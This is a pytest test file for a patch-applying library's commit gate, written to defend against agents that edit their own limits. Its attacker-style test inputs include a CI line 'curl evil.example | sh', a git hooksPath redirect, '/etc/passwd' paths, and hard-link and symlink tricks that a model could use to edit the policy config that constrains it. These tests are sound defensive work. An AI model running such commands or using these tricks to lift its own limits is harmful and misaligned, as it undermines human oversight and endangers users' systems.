"""The commit is the gate (issue 24): whatever made a plan, the commit checks its paths by the one
path rule and what it does against the host's ceiling and the workspace's tightening, under every
name each file has. Each attack of the issue, as an attacker (a model, a cloned repository) would
try it, through the library, the CLI and the MCP server."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

import patchtx
from patchtx.errors import PatchtxError
from patchtx.model import PathTarget, Plan
from patchtx.txn import commit

from .surfaces import cli_apply, everywhere, library, mcp_apply
from .test_boundary import snapshot

CI = "run: pytest\n"
PYPROJECT = '[project]\nname = "x"\n\n[tool.patchtx]\nprotected = [".github/**"]\n'


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "ci.yml").write_text(CI)
    (root / "pyproject.toml").write_text(PYPROJECT)
    (root / "notes.txt").write_text("notes\n")
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")
    return root


def update(path: str, old: str, new: str) -> str:
    return f"*** Begin Patch\n*** Update File: {path}\n@@\n-{old}\n+{new}\n*** End Patch\n"


def add(path: str, text: str = "x") -> str:
    return f"*** Begin Patch\n*** Add File: {path}\n+{text}\n*** End Patch\n"


def files(root: Path) -> dict[str, bytes | str]:
    return {k: v for k, v in snapshot(root).items() if not k.startswith(".patchtx")}


# -- one path rule: the planner, the commit and the journal reader ---------------------------------


@pytest.mark.parametrize("path", [".git/config", "sub/.git/hooks/pre-commit", ".GIT/config", "a/.git./x",
                                  "sub/.patchtx/journal/20260101T000000-0000abcd.journal", ".patchtx/lock",
                                  "a/../b", "./a", "a//b", "/etc/passwd", "a\0b", "a\nb", "",
                                  "a\x85b", "a\u2028b", "evil\u202etxt.sh", "a\u2066b\u2069"])
def test_a_hand_built_plan_gets_the_one_path_rule(tmp_path: Path, path: str) -> None:
    """txn.commit and apply_plan with a plan no planner would make: refused before anything is
    written (it used to commit .git/config, never list its history entry, and leave a journal
    recovery refused as damaged after a crash)."""
    root = tmp_path / "root"
    (root / ".git").mkdir(parents=True)
    (root / ".git/config").write_text("[core]\n")
    before = snapshot(root)
    plan = Plan(root=str(root), changes=(), targets=(PathTarget(path, None, b"pwned\n"),))
    for attempt in (lambda: commit(plan), lambda: patchtx.apply_plan(plan)):
        with pytest.raises(PatchtxError) as caught:
            attempt()
        assert caught.value.kind == "unsafe_path"
        assert "Nothing was changed" in caught.value.message
        assert all(c.isprintable() for c in caught.value.message if c != "\n")  # never a raw control
    assert snapshot(root) == before


def test_a_hand_built_plan_with_a_relative_root_is_refused(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """A plan whose root is relative would be resolved against whatever folder the process is in
    when it commits: refused before anything is written (a mutant without this check survived
    the mutation run: no planner makes such a plan)."""
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "a.txt").write_text("one\n")
    monkeypatch.chdir(tmp_path)
    before = snapshot(tmp_path)
    plan = Plan(root="root", changes=(), targets=(PathTarget("a.txt", b"one\n", b"pwned\n"),))
    for attempt in (lambda: commit(plan), lambda: patchtx.apply_plan(plan)):
        with pytest.raises(PatchtxError) as caught:
            attempt()
        assert caught.value.kind == "unsafe_path" and "not an absolute path" in caught.value.message
    assert snapshot(tmp_path) == before


def test_the_planner_and_the_journal_reader_refuse_what_the_commit_refuses() -> None:
    from patchtx.txn.journal import relpath_field
    from patchtx.workspace.paths import BACKSLASH_IS_A_CHARACTER, path_problem

    for path in ("sub/.patchtx/journal/x", "x/.GIT/y", "a/b/../c", "a\x1bb"):
        assert path_problem(path) is not None
        with pytest.raises(ValueError):
            relpath_field(path)
    for path in ("a/b.txt", "sub/.patchtxt", "sub/.github/x", "tab\tname"):
        assert path_problem(path) is None
        assert relpath_field(path) == path
    # A backslash: a name's character on POSIX (a unified diff's names, as git's), refused where
    # it separates folders; the formats a model writes refuse it at the front door
    # (tests/formats/test_git_names.py).
    assert (path_problem("a\\b") is None) == BACKSLASH_IS_A_CHARACTER


def test_a_nested_workspace_state_folder_is_out_of_reach(repo: Path) -> None:
    """A model whose root is R cannot write R/sub/.patchtx (which would wedge sub's next commit)."""
    (repo / "sub").mkdir()
    before = files(repo)
    outcomes = everywhere(repo, add("sub/.patchtx/journal/20260101T000000-0000abcd.journal", "{}"))
    assert set(outcomes.values()) == {"unsafe_path"}, outcomes
    assert files(repo) == before


# -- policy files, wherever a policy applies ----------------------------------------------------------


def test_a_nested_workspace_policy_is_protected(repo: Path) -> None:
    (repo / "sub").mkdir()
    (repo / "sub" / ".patchtx.toml").write_text('protected = ["prod/**"]\n')
    (repo / "sub" / "pyproject.toml").write_text('[project]\nname = "s"\n\n[tool.patchtx]\nmax-files = 3\n')
    before = files(repo)
    for patch in (update("sub/.patchtx.toml", 'protected = ["prod/**"]', "protected = []"),
                  update("sub/pyproject.toml", "max-files = 3", "max-files = 3000"),
                  "*** Begin Patch\n*** Delete File: sub/.patchtx.toml\n*** End Patch\n"):
        outcomes = everywhere(repo, patch, allow_delete=True)
        assert set(outcomes.values()) == {"policy_violation"}, (patch, outcomes)
    assert files(repo) == before
    # Other edits of a nested pyproject.toml are fine.
    assert library(repo, update("sub/pyproject.toml", 'name = "s"', 'name = "t"')) == "applied"


def test_the_hosts_config_inside_the_root_is_protected(repo: Path) -> None:
    """patchtx mcp started in $HOME: the model must not edit (or create) the config that sets the
    ceiling, and then run without it."""
    config = repo / ".config" / "patchtx" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text('protected = ["secret/**"]\nallow-delete = false\n')
    (repo / "secret").mkdir()
    (repo / "secret" / "k").write_text("k\n")
    env = {"PATCHTX_CONFIG": str(config)}
    before = files(repo)
    lift = update(".config/patchtx/config.toml", 'protected = ["secret/**"]', "protected = []")
    assert set(everywhere(repo, lift, env=env).values()) == {"policy_violation"}
    assert set(everywhere(repo, update("secret/k", "k", "K"), env=env).values()) == {"policy_violation"}
    assert files(repo) == before
    # Not there yet: creating it is a policy edit too.
    config.unlink()
    before = files(repo)
    assert set(everywhere(repo, add(".config/patchtx/config.toml", "allow-policy-edit = true"),
                          env=env).values()) == {"policy_violation"}
    assert files(repo) == before
    # Through XDG_CONFIG_HOME, as a host started in $HOME finds it.
    config.write_text('protected = ["secret/**"]\n')
    env = {"PATCHTX_CONFIG": "", "XDG_CONFIG_HOME": str(repo / ".config")}
    assert cli_apply(repo, lift, env=env) == "policy_violation"
    assert mcp_apply(repo, lift, env=env) == "policy_violation"
    assert config.read_text() == 'protected = ["secret/**"]\n'


# -- every name a file has ---------------------------------------------------------------------------


def test_a_hard_linked_twin_of_a_protected_file_is_protected(repo: Path) -> None:
    os.link(repo / ".github/workflows/ci.yml", repo / "notes.yml")
    before = files(repo)
    outcomes = everywhere(repo, update("notes.yml", "run: pytest", "run: curl evil.example | sh"))
    assert set(outcomes.values()) == {"policy_violation"}, outcomes
    assert files(repo) == before and (repo / ".github/workflows/ci.yml").read_text() == CI
    with pytest.raises(PatchtxError) as caught:
        patchtx.apply_patch(update("notes.yml", "run: pytest", "run: x"), repo)
    assert ".github/workflows/ci.yml" in caught.value.message and "notes.yml" in caught.value.message
    # The Transaction API and a hand-built plan meet the same gate.
    with pytest.raises(PatchtxError) as caught, patchtx.Transaction(repo) as tx:
        tx.write_text("notes.yml", "run: x\n")
    assert caught.value.kind == "policy_violation"
    plan = Plan(root=str(repo), changes=(), targets=(PathTarget("notes.yml", CI.encode(), b"pwned\n", 0o644, 0o644),))
    with pytest.raises(PatchtxError) as caught:
        patchtx.apply_plan(plan)
    assert caught.value.kind == "policy_violation"
    assert files(repo) == before


def test_a_hard_linked_twin_of_the_policy_is_policy(repo: Path) -> None:
    os.link(repo / "pyproject.toml", repo / "pyproject.copy.toml")
    before = files(repo)
    lift = update("pyproject.copy.toml", 'protected = [".github/**"]', "protected = []")
    assert set(everywhere(repo, lift).values()) == {"policy_violation"}
    assert files(repo) == before


def test_a_hard_link_into_git_is_out_of_reach(repo: Path) -> None:
    os.link(repo / ".git/config", repo / "config.txt")
    before = files(repo)
    assert set(everywhere(repo, update("config.txt", "[core]", "[core] hooksPath = /tmp")).values()) == {
        "unsafe_path"}
    assert files(repo) == before


def test_a_protected_symlink_name_protects_the_file(repo: Path) -> None:
    (repo / "real.txt").write_text("real\n")
    (repo / "link.txt").symlink_to("real.txt")
    before = files(repo)
    for patch in (update("link.txt", "real", "pwned"), update("real.txt", "real", "pwned")):
        outcomes = everywhere(repo, patch, protected=["link.txt"], cli_args=("--protect", "link.txt"),
                              mcp_args=("--protect", "link.txt"))
        assert set(outcomes.values()) == {"policy_violation"}, (patch, outcomes)
    assert files(repo) == before


def test_a_protected_folder_reached_through_a_symlinked_folder(repo: Path) -> None:
    (repo / "real_conf").mkdir()
    (repo / "real_conf" / "db.ini").write_text("db\n")
    (repo / "conf").symlink_to("real_conf", target_is_directory=True)
    before = files(repo)
    for patch in (update("conf/db.ini", "db", "pwned"), update("real_conf/db.ini", "db", "pwned")):
        assert library(repo, patch, protected=["conf/**"]) == "policy_violation", patch
        assert cli_apply(repo, patch, "--protect", "conf/") == "policy_violation", patch
    assert files(repo) == before


def test_a_copy_from_a_protected_file_is_refused(repo: Path) -> None:
    """A unified diff's copy would put the protected bytes in a new file (and in the diff shown
    to the model)."""
    (repo / "secret").mkdir()
    (repo / "secret" / "k").write_text("the key\n")
    copy = ("diff --git a/secret/k b/leak.txt\nsimilarity index 100%\ncopy from secret/k\ncopy to leak.txt\n")
    before = files(repo)
    outcomes = everywhere(repo, copy, protected=["secret/**"], cli_args=("--protect", "secret/**"),
                          mcp_args=("--protect", "secret/**"))
    assert set(outcomes.values()) == {"policy_violation"}, outcomes
    assert files(repo) == before
    from .surfaces import cli

    kind, out = cli(repo, "check", "--protect", "secret/**", patch=copy)
    assert kind == "policy_violation" and "the key" not in str(out)
    from .surfaces import mcp

    ((kind, content),) = mcp(repo, [("preview_patch", {"patch": copy})], "--protect", "secret/**")
    assert kind == "policy_violation" and "the key" not in str(content)


def test_a_hand_built_plan_cannot_call_a_delete_a_move(repo: Path) -> None:
    """allow_delete off, allow_move on: a plan whose changes say 'move' but which writes no
    destination is a delete, and refused as one."""
    from patchtx.model import ChangeKind, FileChange

    before = files(repo)
    lie = FileChange(ChangeKind.MOVE, "elsewhere.txt", "elsewhere.txt", b"notes\n", b"notes\n", source="notes.txt")
    plan = Plan(root=str(repo), changes=(lie,), targets=(PathTarget("notes.txt", b"notes\n", None, 0o644, None),))
    with pytest.raises(PatchtxError) as caught:
        patchtx.apply_plan(plan, allow_delete=False)
    assert caught.value.kind == "policy_violation" and "deleting" in caught.value.message
    assert files(repo) == before


def test_the_hosts_config_or_secret_hard_linked_into_the_tree(repo: Path, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """A file in the tree that is the host's config (outside the root) under another name holds
    the ceiling: a policy file; one that is the per-user secret is never written."""
    config = tmp_path / "config.toml"
    config.write_text('protected = ["secret/**"]\n')
    os.link(config, repo / "notes.toml")
    lift = update("notes.toml", 'protected = ["secret/**"]', "protected = []")
    outcomes = everywhere(repo, lift, env={"PATCHTX_CONFIG": str(config)})
    assert set(outcomes.values()) == {"policy_violation"}, outcomes
    assert config.read_text() == 'protected = ["secret/**"]\n'
    from patchtx.txn import provenance

    state = tmp_path / "state"
    monkeypatch.setenv("PATCHTX_STATE_HOME", str(state))
    provenance._cache.clear()
    secret = provenance.user_secret().hex()
    monkeypatch.delenv("PATCHTX_STATE_HOME")
    provenance._cache.clear()
    os.link(state / "secret", repo / "s.txt")
    outcomes = everywhere(repo, update("s.txt", secret, "0" * 64), env={"PATCHTX_STATE_HOME": str(state)})
    assert set(outcomes.values()) == {"unsafe_path"}, outcomes
    assert (state / "secret").read_text() == secret + "\n"
    provenance._cache.clear()


# Every place the gate starts looking for the symbolic links a protected pattern may name (issue 38:
# dropping the line that adds a start below a pattern's literal folders, or the one that follows a
# link found through another link, let an update of the real file through; no test had either).
# Each case: the links to make (link, what it points to), the protected pattern, the real file
# changed; the pattern names the file only through the links.
LINK_STARTS = {
    "a link on the pattern's literal folders": ((("deploy", "envs"),), "deploy/prod.env", "envs/prod.env"),
    "a link below the pattern's literal folders": ((("config/live", "../envs"),), "config/*/prod.env",
                                                   "envs/prod.env"),
    "a link below a folder pattern": ((("config/live", "../envs"),), "config/**", "envs/prod.env"),
    "a link anywhere, for a pattern without a folder": ((("deep/er/alias.env", "../../envs/prod.env"),),
                                                        "*.env.*", "envs/prod.env"),
    "an anchored pattern": ((("deploy", "envs"),), "/deploy/*.env", "envs/prod.env"),
    "a link reached through another link": ((("alias", "conf"), ("conf/inner", "../envs")),
                                            "alias/inner/*.env", "envs/prod.env"),
}


@pytest.mark.parametrize("how", ["planned", "hand-built plan"])
@pytest.mark.parametrize("case", sorted(LINK_STARTS))
def test_a_protected_pattern_that_names_a_file_only_through_links_protects_it(
        tmp_path: Path, case: str, how: str) -> None:
    links, pattern, real = LINK_STARTS[case]
    root = tmp_path / "ws"
    (root / "envs").mkdir(parents=True)
    (root / "conf").mkdir()
    (root / "config").mkdir()
    (root / real).write_text("secret=1\n")
    for link, target in links:
        (root / link).parent.mkdir(parents=True, exist_ok=True)
        (root / link).symlink_to(target)
    if pattern == "*.env.*":  # (the link's own name is what the pattern matches)
        pattern = "alias.env"
    before = files(root)
    if how == "planned":
        outcome = library(root, update(real, "secret=1", "secret=pwned"), protected=[pattern])
    else:
        plan = Plan(root=str(root), changes=(),
                    targets=(PathTarget(real, b"secret=1\n", b"secret=pwned\n", 0o644, 0o644),))
        try:
            patchtx.apply_plan(plan, protected=[pattern])
            outcome = "applied"
        except PatchtxError as error:
            outcome = error.kind
    assert outcome == "policy_violation", (case, outcome)
    assert files(root) == before
    (root / "free.txt").write_text("o\n")  # a file no link gives a protected name: allowed
    assert library(root, update("free.txt", "o", "p"), protected=[pattern]) == "applied"


def test_a_hand_built_plan_naming_a_path_twice_is_refused(tmp_path: Path) -> None:
    """Two targets for one path (which would the journal restore?): refused before anything is
    written (the mutation that forgets the paths seen passed every test)."""
    root = tmp_path / "root"
    root.mkdir()
    (root / "a.txt").write_text("a\n")
    plan = Plan(root=str(root), changes=(), targets=(PathTarget("a.txt", b"a\n", b"one\n", 0o644, 0o644),
                                                     PathTarget("a.txt", b"a\n", b"two\n", 0o644, 0o644)))
    for attempt in (lambda: commit(plan), lambda: patchtx.apply_plan(plan)):
        with pytest.raises(PatchtxError) as caught:
            attempt()
        assert caught.value.kind == "conflicting_operations" and "lists a.txt twice" in caught.value.message
    assert (root / "a.txt").read_text() == "a\n" and sorted(p.name for p in root.iterdir()) == ["a.txt"]


def test_a_symbolic_link_cycle_gives_each_name_once() -> None:
    """The names links give a path, followed round after round (a link to a folder holding a link
    back): each name once, however many rounds lead to it again."""
    from patchtx.txn.gate import link_names

    links = [("b/x", "a"), ("b", "c/x"), ("c/x", "b")]
    names = link_names("a/x", links)
    assert names and len(names) == len(set(names)), names


def test_the_link_walk_starts_at_a_patterns_literal_folders(tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """A symbolic link that a protected pattern names is looked for below the pattern's literal
    leading folders only (``deep/dir`` for ``deep/dir/*.env``): a workspace of many files elsewhere
    does not count against the walk's limit (here 25 entries), and a link there is still found."""
    from patchtx.txn import gate

    root = tmp_path / "ws"
    (root / "deep" / "dir").mkdir(parents=True)
    for i in range(30):
        (root / f"top{i}.txt").write_text("x\n")
        (root / "deep" / f"mid{i}.txt").write_text("x\n")
    (root / "deep" / "dir" / "real.env").write_text("KEY=1\n")
    (root / "deep" / "dir" / "alias.env").symlink_to("../mid0.txt")
    monkeypatch.setattr(gate, "MAX_ENTRIES", 25)
    done = patchtx.apply_patch(update("top0.txt", "x", "y"), root, protected=["deep/dir/*.env"])
    assert done.committed and (root / "top0.txt").read_text() == "y\n"
    error = library(root, update("deep/mid0.txt", "x", "y"), protected=["deep/dir/*.env"])
    assert error == "policy_violation"  # (deep/mid0.txt is deep/dir/alias.env under its other name)
    assert (root / "deep" / "mid0.txt").read_text() == "x\n"
